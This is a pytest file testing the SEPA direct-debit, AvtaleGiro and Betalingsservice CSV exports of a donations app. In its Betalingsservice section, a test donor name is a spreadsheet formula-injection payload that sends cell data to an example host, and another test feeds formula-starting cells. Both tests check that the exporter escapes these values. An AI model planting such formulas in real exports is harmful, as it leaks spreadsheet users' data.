"""The collection files: SEPA pain.008, AvtaleGiro claims and the Betalingsservice CSV,
each read back the way the bank reads it."""

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import netsgiro
import pytest
import sepaxml
from django.conf import settings as django_settings
from django.utils import translation
from django.utils.translation import gettext_lazy
from lxml import etree
from netsgiro.records import AssignmentEnd, TransmissionEnd
from netsgiro.records import parse as parse_records
from schwifty import IBAN
from stdnum import luhn

from donations import bank_files, banking
from donations.bank_files import (
    BETALINGSSERVICE_COLUMNS,
    Line,
    avtalegiro_claims,
    betalingsservice_csv,
    sepa_direct_debit,
)

COLLECTION_DATE = date(2025, 3, 5)
SEPA_SCHEMAS = ["pain.008.001.08", "pain.008.001.02"]
SEPA_XSD_FOLDER = Path(sepaxml.__file__).parent / "schemas"
# What the EPC's basic Latin character set allows in names and texts.
SEPA_TEXT = re.compile(r"[A-Za-z0-9/\-?:().,'+ ]+")


@pytest.fixture(autouse=True)
def _bank_settings(settings):
    # The organisation's identifiers as the tests expect them, whatever the
    # environment sets. The creditor account differs from every debtor's.
    settings.CREDITOR_NAME = ""
    settings.SITE_NAME = gettext_lazy("Every Child a Family")
    settings.SEPA_CREDITOR_ID = "BE68ZZZ0123456789"
    settings.SEPA_DIRECT_DEBIT_SCHEMA = "pain.008.001.08"
    settings.DONATION_ACCOUNTS = {
        "EUR": "BE68 5390 0754 7034",
        "NOK": "8601 11 17947",
        "DKK": "DK50 0040 0440 1162 43",
    }
    settings.DONATION_BIC_EUR = "GKCCBEBB"
    settings.AVTALEGIRO_DATA_TRANSMITTER = "00010200"
    settings.AVTALEGIRO_AGREEMENT_ID = "000000004"
    settings.AVTALEGIRO_ACCOUNT = "86011117947"
    settings.AVTALEGIRO_KID_LENGTH = 11
    settings.BETALINGSSERVICE_PBS_NUMBER = "12345678"
    settings.BETALINGSSERVICE_DEBTOR_GROUP = "00001"


def line(number, **values):
    defaults = {
        "end_to_end_id": f"C-2025-{number:05d}",
        "mandate_reference": f"M-TEST-{number:04d}",
        "mandate_signed": date(2024, 1, 1) + timedelta(days=number),
        "debtor_name": "Anna Peeters",
        "account": "BE71096123456769",
        "amount": Decimal("15.00"),
        "currency": "EUR",
        "sequence": "RCUR",
        "description": "Monthly sponsorship",
    }
    return Line(**(defaults | values))


# --- SEPA ------------------------------------------------------------------------------

EURO_ACCOUNTS = [
    "BE71096123456769",
    "NL91ABNA0417164300",
    "DE89370400440532013000",
    "FR1420041010050500013M02606",
    "AT611904300234573201",
]
# Names as donors type them, and as a SEPA file carries them.
EURO_NAMES = {
    "Søren Ærø": "Soren AEro",
    "Zoë Dubois": "Zoe Dubois",
    "Łukasz Żółć": "Lukasz Zolc",
    "Anne & Marc Peeters": "Anne + Marc Peeters",
    "José Müller-Lüdenscheidt": "Jose Muller-Ludenscheidt",
    "Ines O'Brien": "Ines O'Brien",
}
EURO_AMOUNTS = [
    Decimal("15.00"),
    Decimal("30.50"),
    Decimal("0.01"),
    Decimal("1234.56"),
    Decimal(7),
    # Through float, 19.99 times 100 is 1998.9999999999998.
    Decimal("19.99"),
]


def euro_lines(count=120):
    names = list(EURO_NAMES)
    return [
        line(
            number,
            debtor_name=names[number % len(names)],
            account=EURO_ACCOUNTS[number % len(EURO_ACCOUNTS)],
            amount=EURO_AMOUNTS[number % len(EURO_AMOUNTS)],
            sequence="FRST" if number % 4 == 0 else "RCUR",
            description=f"Sponsorship {number}, merci Zoë",
        )
        for number in range(count)
    ]


def read_sepa(content, schema):
    """The file parsed, after checking it against the XSD sepaxml ships."""
    xsd = etree.XMLSchema(etree.parse(str(SEPA_XSD_FOLDER / f"{schema}.xsd")))
    document = etree.fromstring(content)
    xsd.assertValid(document)
    assert document.tag == f"{{urn:iso:std:iso:20022:tech:xsd:{schema}}}Document"
    return document, {"p": f"urn:iso:std:iso:20022:tech:xsd:{schema}"}


def total(lines):
    return sum((each.amount for each in lines), Decimal(0))


@pytest.mark.parametrize("schema", SEPA_SCHEMAS)
def test_sepa_group_header_counts_and_sums_the_whole_run(settings, schema):
    settings.SEPA_DIRECT_DEBIT_SCHEMA = schema
    lines = euro_lines()
    document, ns = read_sepa(sepa_direct_debit(lines, COLLECTION_DATE, "RUN-2025-03-0001"), schema)
    header = document.find("p:CstmrDrctDbtInitn/p:GrpHdr", ns)
    assert header.findtext("p:MsgId", namespaces=ns) == "RUN-2025-03-0001"
    assert header.findtext("p:NbOfTxs", namespaces=ns) == str(len(lines))
    assert header.findtext("p:CtrlSum", namespaces=ns) == f"{total(lines):.2f}"
    assert header.findtext("p:InitgPty/p:Nm", namespaces=ns) == "Every Child a Family"


@pytest.mark.parametrize("schema", SEPA_SCHEMAS)
def test_sepa_has_one_payment_block_per_sequence_type(settings, schema):
    settings.SEPA_DIRECT_DEBIT_SCHEMA = schema
    lines = euro_lines()
    document, ns = read_sepa(sepa_direct_debit(lines, COLLECTION_DATE, "RUN-1"), schema)
    blocks = document.findall("p:CstmrDrctDbtInitn/p:PmtInf", ns)
    by_sequence = {block.findtext("p:PmtTpInf/p:SeqTp", namespaces=ns): block for block in blocks}
    assert len(blocks) == 2 and set(by_sequence) == {"FRST", "RCUR"}
    bic_element = "BICFI" if schema == "pain.008.001.08" else "BIC"
    for sequence, block in by_sequence.items():
        expected = [each for each in lines if each.sequence == sequence]
        transactions = block.findall("p:DrctDbtTxInf", ns)
        assert len(transactions) == len(expected) > 0
        assert block.findtext("p:NbOfTxs", namespaces=ns) == str(len(expected))
        assert block.findtext("p:CtrlSum", namespaces=ns) == f"{total(expected):.2f}"
        assert block.findtext("p:PmtMtd", namespaces=ns) == "DD"
        assert block.findtext("p:BtchBookg", namespaces=ns) == "true"
        assert block.findtext("p:PmtTpInf/p:SvcLvl/p:Cd", namespaces=ns) == "SEPA"
        assert block.findtext("p:PmtTpInf/p:LclInstrm/p:Cd", namespaces=ns) == "CORE"
        assert block.findtext("p:ReqdColltnDt", namespaces=ns) == "2025-03-05"
        assert block.findtext("p:Cdtr/p:Nm", namespaces=ns) == "Every Child a Family"
        assert block.findtext("p:CdtrAcct/p:Id/p:IBAN", namespaces=ns) == "BE68539007547034"
        assert block.findtext(f"p:CdtrAgt/p:FinInstnId/p:{bic_element}", namespaces=ns) == (
            "GKCCBEBB"
        )
        creditor_id = "p:CdtrSchmeId/p:Id/p:PrvtId/p:Othr/p:Id"
        assert block.findtext(creditor_id, namespaces=ns) == "BE68ZZZ0123456789"
        ids = [tx.findtext("p:PmtId/p:EndToEndId", namespaces=ns) for tx in transactions]
        assert ids == [each.end_to_end_id for each in expected]


@pytest.mark.parametrize("schema", SEPA_SCHEMAS)
def test_sepa_transactions_carry_each_collection(settings, schema):
    settings.SEPA_DIRECT_DEBIT_SCHEMA = schema
    lines = {each.end_to_end_id: each for each in euro_lines()}
    document, ns = read_sepa(sepa_direct_debit(lines.values(), COLLECTION_DATE, "RUN-1"), schema)
    transactions = document.findall("p:CstmrDrctDbtInitn/p:PmtInf/p:DrctDbtTxInf", ns)
    assert len(transactions) == len(lines)
    for transaction in transactions:
        expected = lines[transaction.findtext("p:PmtId/p:EndToEndId", namespaces=ns)]
        amount = transaction.find("p:InstdAmt", ns)
        assert amount.get("Ccy") == "EUR"
        assert amount.text == f"{expected.amount:.2f}"
        mandate = transaction.find("p:DrctDbtTx/p:MndtRltdInf", ns)
        assert mandate.findtext("p:MndtId", namespaces=ns) == expected.mandate_reference
        assert mandate.findtext("p:DtOfSgntr", namespaces=ns) == (
            expected.mandate_signed.isoformat()
        )
        assert transaction.findtext("p:DbtrAcct/p:Id/p:IBAN", namespaces=ns) == expected.account
        name = transaction.findtext("p:Dbtr/p:Nm", namespaces=ns)
        assert name == EURO_NAMES[expected.debtor_name]
        text = transaction.findtext("p:RmtInf/p:Ustrd", namespaces=ns)
        assert text == expected.description.replace("Zoë", "Zoe")
        assert SEPA_TEXT.fullmatch(name) and SEPA_TEXT.fullmatch(text)


def debtor_agents(content, schema):
    """Each debtor IBAN's bank as the file names it: (element, identifier)."""
    document, ns = read_sepa(content, schema)
    agents = {}
    for transaction in document.iterfind(".//p:DrctDbtTxInf", ns):
        account = transaction.findtext("p:DbtrAcct/p:Id/p:IBAN", namespaces=ns)
        [named] = transaction.find("p:DbtrAgt/p:FinInstnId", ns)
        element = etree.QName(named).localname
        value = named.findtext("p:Id", namespaces=ns) if element == "Othr" else named.text
        agents[account] = (element, value)
    return agents


def test_sepa_08_goes_by_the_debtor_iban_alone():
    content = sepa_direct_debit(euro_lines(10), COLLECTION_DATE, "RUN-1")
    agents = debtor_agents(content, "pain.008.001.08")
    assert agents == dict.fromkeys(EURO_ACCOUNTS, ("Othr", "NOTPROVIDED"))


def test_sepa_02_names_the_bank_schwifty_knows_or_not_provided(settings):
    settings.SEPA_DIRECT_DEBIT_SCHEMA = "pain.008.001.02"
    # Every bank here is in schwifty's registry except the Austrian one.
    assert IBAN("AT611904300234573201").bic is None
    content = sepa_direct_debit(euro_lines(10), COLLECTION_DATE, "RUN-1")
    assert debtor_agents(content, "pain.008.001.02") == {
        "BE71096123456769": ("BIC", "GKCCBEBB"),
        "NL91ABNA0417164300": ("BIC", "ABNANL2A"),
        "DE89370400440532013000": ("BIC", "COBADEFFXXX"),
        "FR1420041010050500013M02606": ("BIC", "PSSTFRPP"),
        "AT611904300234573201": ("Othr", "NOTPROVIDED"),
    }


def creditor_in(content, schema="pain.008.001.08"):
    document, ns = read_sepa(content, schema)
    return {name.text for name in document.iterfind(".//p:Cdtr/p:Nm", ns)} | {
        document.findtext(".//p:InitgPty/p:Nm", namespaces=ns)
    }


def test_sepa_creditor_is_the_legal_name_when_one_is_set(settings):
    settings.CREDITOR_NAME = "Stichting Kinderrechten Ærø"
    content = sepa_direct_debit(euro_lines(8), COLLECTION_DATE, "RUN-1")
    assert creditor_in(content) == {"Stichting Kinderrechten AEro"}


def test_sepa_creditor_is_the_site_name_in_the_default_language():
    # Run from a Dutch admin page, the file still names the creditor as the bank
    # knows it, not "Elk kind een gezin".
    with translation.override("nl"):
        content = sepa_direct_debit(euro_lines(8), COLLECTION_DATE, "RUN-1")
    assert creditor_in(content) == {"Every Child a Family"}


def test_sepa_a_run_of_first_collections_only_has_one_block():
    lines = [line(number, sequence="FRST") for number in range(3)]
    document, ns = read_sepa(sepa_direct_debit(lines, COLLECTION_DATE, "RUN-1"), SEPA_SCHEMAS[0])
    assert [
        block.findtext("p:PmtTpInf/p:SeqTp", namespaces=ns)
        for block in document.iterfind(".//p:PmtInf", ns)
    ] == ["FRST"]


@pytest.mark.parametrize(
    "changes,message",
    [
        ({"currency": "NOK"}, "in NOK; this file collects only EUR"),
        ({"sequence": "OOFF"}, "is not FRST or RCUR"),
        ({"sequence": ""}, "is not FRST or RCUR"),
        ({"amount": Decimal("0.00")}, "not a positive amount in cents"),
        ({"amount": Decimal("-5.00")}, "not a positive amount in cents"),
        ({"amount": Decimal("10.005")}, "not a positive amount in cents"),
        ({"account": "BE71096123456768"}, "checksum"),
        ({"end_to_end_id": "C/" + "9" * 34}, "is not a valid SEPA identifier"),
        ({"end_to_end_id": "/C-1"}, "is not a valid SEPA identifier"),
        ({"mandate_reference": "M 1"}, "is not a valid SEPA identifier"),
        ({"debtor_name": "🙂"}, "has no letters a SEPA file can carry"),
        ({"description": "  "}, "has no text for the statement"),
    ],
)
def test_sepa_refuses_a_line_the_bank_would_refuse(changes, message):
    lines = [*euro_lines(4), line(99, **changes)]
    with pytest.raises(ValueError, match=re.escape(message)):
        sepa_direct_debit(lines, COLLECTION_DATE, "RUN-1")


def test_sepa_names_in_other_scripts_are_transliterated():
    lines = [line(1, debtor_name="李小龍", description="Спасибо")]
    content = sepa_direct_debit(lines, COLLECTION_DATE, "RUN-1")
    assert b"<Nm>Li Xiao Long</Nm>" in content and b"<Ustrd>Spasibo</Ustrd>" in content


def test_sepa_refuses_an_empty_run_a_bad_message_id_and_an_unknown_schema(settings):
    with pytest.raises(ValueError, match="no EUR collections"):
        sepa_direct_debit([], COLLECTION_DATE, "RUN-1")
    with pytest.raises(ValueError, match="message id"):
        sepa_direct_debit(euro_lines(2), COLLECTION_DATE, "R" * 36)
    settings.SEPA_DIRECT_DEBIT_SCHEMA = "pain.008.003.02"
    with pytest.raises(ValueError, match="SEPA_DIRECT_DEBIT_SCHEMA"):
        sepa_direct_debit(euro_lines(2), COLLECTION_DATE, "RUN-1")


def test_sepa_refuses_two_collections_with_one_reference():
    lines = [line(1), line(2, end_to_end_id="C-2025-00001")]
    with pytest.raises(ValueError, match="same reference"):
        sepa_direct_debit(lines, COLLECTION_DATE, "RUN-1")


# --- AvtaleGiro ----------------------------------------------------------------------------

NORWEGIAN_NAMES = ["Øyvind Åsen", "Kari Nordmann", "Łukasz Kowalski", "Ærlig Ørn Østby"]


def kid(number):
    # As agreements get theirs: a 1, digits, and a Luhn check digit.
    width = django_settings.AVTALEGIRO_KID_LENGTH - 2
    return banking.kid(f"1{number:0{width}d}")


def test_kids_here_are_the_length_and_checksum_nets_expects():
    assert len(kid(7)) == 11 and luhn.is_valid(kid(7))


def krone_line(number, **changes):
    values = {
        "mandate_reference": kid(number + 1000),
        "debtor_name": NORWEGIAN_NAMES[number % len(NORWEGIAN_NAMES)],
        "account": "86011117947",
        "amount": [Decimal("350.00"), Decimal("200.50"), Decimal("0.01")][number % 3],
        "currency": "NOK",
        "sequence": "",
        "description": f"Fadderskap {number}, takk fra Every Child a Family",
    }
    return line(number, **(values | changes))


def krone_lines(count=30):
    return [krone_line(number) for number in range(count)]


def test_avtalegiro_claims_read_back_as_written():
    lines = krone_lines()
    content = avtalegiro_claims(lines, COLLECTION_DATE, 42)
    transmission = netsgiro.parse(content.decode("iso-8859-1"))
    assert (transmission.number, transmission.data_transmitter, transmission.data_recipient) == (
        "0000042",
        "00010200",
        netsgiro.NETS_ID,
    )
    [assignment] = transmission.assignments
    assert assignment.service_code == netsgiro.ServiceCode.AVTALEGIRO
    assert assignment.type == netsgiro.AssignmentType.TRANSACTIONS
    assert (assignment.agreement_id, assignment.account) == ("000000004", "86011117947")
    assert len(assignment.transactions) == len(lines)
    for request, expected in zip(assignment.transactions, lines, strict=True):
        assert request.kid == expected.mandate_reference
        assert request.amount == expected.amount
        assert request.date == COLLECTION_DATE
        assert request.payer_name == expected.debtor_name.replace("Ł", "L")[:10].strip()
        assert request.reference == expected.description[:25].strip()
        # The payer's bank sends the notice, with our text.
        assert request.type == netsgiro.TransactionType.AVTALEGIRO_WITH_BANK_NOTIFICATION
        assert request.text.strip() == expected.description
    assert transmission.get_num_transactions() == len(lines)
    assert transmission.get_total_amount() == total(lines)


def test_avtalegiro_end_records_count_and_sum_the_claims():
    lines = krone_lines()
    records = parse_records(avtalegiro_claims(lines, COLLECTION_DATE, 42).decode("iso-8859-1"))
    cents = int(total(lines) * 100)
    [assignment_end] = [record for record in records if isinstance(record, AssignmentEnd)]
    transmission_end = records[-1]
    assert isinstance(transmission_end, TransmissionEnd)
    assert (assignment_end.num_transactions, assignment_end.total_amount) == (len(lines), cents)
    assert (assignment_end.nets_date_earliest, assignment_end.nets_date_latest) == (
        COLLECTION_DATE,
        COLLECTION_DATE,
    )
    assert (transmission_end.num_transactions, transmission_end.total_amount) == (
        len(lines),
        cents,
    )
    assert transmission_end.num_records == len(records)


def test_avtalegiro_file_is_iso_8859_1_in_80_character_records():
    content = avtalegiro_claims(krone_lines(4), COLLECTION_DATE, "0000007")
    assert "Øyvind Ås".encode("iso-8859-1") in content
    assert b"Lukasz" in content  # outside ISO-8859-1, so transliterated
    records = content.decode("iso-8859-1").split("\n")
    assert all(len(record) == 80 for record in records)
    assert records[0] == "NY000010" + "00010200" + "0000007" + "00008080" + "0" * 49


def test_avtalegiro_long_texts_are_cut_and_wrapped_to_nets_limits():
    description = "Fadderskap for et barn i Kenya " * 8
    debtor_name = "Margrethe Østensjø-Halvorsen"
    lines = [krone_line(1, debtor_name=debtor_name, description=description)]
    content = avtalegiro_claims(lines, COLLECTION_DATE, 1)
    [request] = netsgiro.parse(content.decode("iso-8859-1")).assignments[0].transactions
    assert request.payer_name == "Margrethe"
    assert request.reference == description[:25].strip()
    assert " ".join(request.text.split()) == " ".join(description.split())


@pytest.mark.parametrize(
    "changes,message",
    [
        ({"currency": "EUR"}, "in EUR; this file collects only NOK"),
        ({"currency": "DKK"}, "in DKK; this file collects only NOK"),
        ({"mandate_reference": kid(5)[:-1] + str((int(kid(5)[-1]) + 1) % 10)}, "not a valid KID"),
        ({"mandate_reference": "M-TEST-0001"}, "is not a valid KID"),
        ({"amount": Decimal("99.999")}, "not a positive amount in cents"),
    ],
)
def test_avtalegiro_refuses_a_line_nets_would_refuse(changes, message):
    lines = [
        *krone_lines(3),
        krone_line(99, **changes),
    ]
    with pytest.raises(ValueError, match=re.escape(message)):
        avtalegiro_claims(lines, COLLECTION_DATE, 1)


def test_avtalegiro_refuses_an_empty_run_and_a_long_transmission_number():
    with pytest.raises(ValueError, match="no NOK collections"):
        avtalegiro_claims([], COLLECTION_DATE, 1)
    with pytest.raises(ValueError, match="up to 7 digits"):
        avtalegiro_claims(krone_lines(1), COLLECTION_DATE, 12345678)


# --- Betalingsservice ------------------------------------------------------------------------


def danish_line(number, **changes):
    values = {
        "mandate_reference": "482910377",
        "debtor_name": "Søren Ærø",
        "account": "DK5000400440116243",
        "amount": Decimal("150.00"),
        "currency": "DKK",
        "sequence": "",
        "description": "Fadderskab marts",
    }
    return line(number, **(values | changes))


def danish_lines():
    return [
        danish_line(1),
        danish_line(
            2,
            mandate_reference="739102845",
            debtor_name='=HYPERLINK("https://example.com/?leak="&A1,"Se her")',
            amount=Decimal("30.5"),
            description="Fadderskab; tak",
        ),
    ]


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_betalingsservice_csv_reads_back_as_written():
    content = betalingsservice_csv(danish_lines(), COLLECTION_DATE)
    header, *rows = read_csv(content)
    assert (
        header
        == [name for name, _meaning in BETALINGSSERVICE_COLUMNS]
        == [
            "PBS number",
            "Debtor group",
            "Customer number",
            "Debtor name",
            "Account",
            "Amount",
            "Currency",
            "Collection date",
            "Text on statement",
            "Our reference",
        ]
    )
    assert rows == [
        [
            "12345678",
            "00001",
            "482910377",
            "Søren Ærø",
            "0040 0440116243",
            "150,00",
            "DKK",
            "2025-03-05",
            "Fadderskab marts",
            "C-2025-00001",
        ],
        [
            "12345678",
            "00001",
            "739102845",
            '\'=HYPERLINK("https://example.com/?leak="&A1,"Se her")',
            "0040 0440116243",
            "30,50",
            "DKK",
            "2025-03-05",
            "Fadderskab; tak",
            "C-2025-00002",
        ],
    ]
    assert [Decimal(row[5].replace(",", ".")) for row in rows] == [Decimal("150"), Decimal("30.5")]
    assert content.count(b"\r\n") == 3 and content.endswith(b"\r\n")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_betalingsservice_cells_never_start_a_formula(start):
    lines = [danish_line(1, debtor_name=f"{start}1+1", description=f"{start}cmd")]
    [_header, row] = read_csv(betalingsservice_csv(lines, COLLECTION_DATE))
    assert (row[3], row[8]) == (f"'{start}1+1", f"'{start}cmd")


@pytest.mark.parametrize(
    "changes,message",
    [
        ({"currency": "EUR"}, "in EUR; this file collects only DKK"),
        ({"currency": "NOK"}, "in NOK; this file collects only DKK"),
        ({"account": "NL91ABNA0417164300"}, "is not a Danish IBAN"),
        ({"amount": Decimal("0")}, "not a positive amount in cents"),
    ],
)
def test_betalingsservice_refuses_a_line_the_bank_would_refuse(changes, message):
    lines = [
        *danish_lines(),
        danish_line(3, **changes),
    ]
    with pytest.raises(ValueError, match=re.escape(message)):
        betalingsservice_csv(lines, COLLECTION_DATE)


def test_betalingsservice_refuses_an_empty_run():
    with pytest.raises(ValueError, match="no DKK collections"):
        betalingsservice_csv([], COLLECTION_DATE)


@pytest.mark.parametrize("schema", ["pain.008.001.08", "pain.008.001.02"])
def test_a_file_that_breaks_the_schema_is_never_returned(schema):
    from sepaxml.validation import ValidationError as SepaValidationError

    broken = b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:' + schema.encode() + b'"/>'
    with pytest.raises(SepaValidationError, match=schema):
        bank_files._check_against_schema(broken, schema)
